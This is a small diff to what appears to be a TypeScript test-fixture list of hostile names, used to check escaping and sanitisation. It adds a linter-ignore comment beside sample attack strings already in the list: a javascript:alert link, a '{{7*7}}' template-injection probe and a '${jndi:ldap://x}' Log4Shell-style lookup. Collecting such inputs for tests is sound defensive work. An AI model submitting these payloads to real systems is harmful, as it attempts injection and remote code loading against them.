@@ -252,6 +252,7 @@ export const hostileNames: readonly string[] = [
   '**bold** _it_ ~~gone~~ <b>bold</b>&amp;',
   '@octocat #123 GH-7 octo/cat#1 octo@example.org',
   'https://example.org/a www.example.org [link](javascript:alert(1)) ![i](x)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
   '{{7*7}} ${jndi:ldap://x}',
   'emoji 🚀🔥 👩‍👩‍👧 日本語/チャット é',
   ']]> <!-- comment --> &#60;',
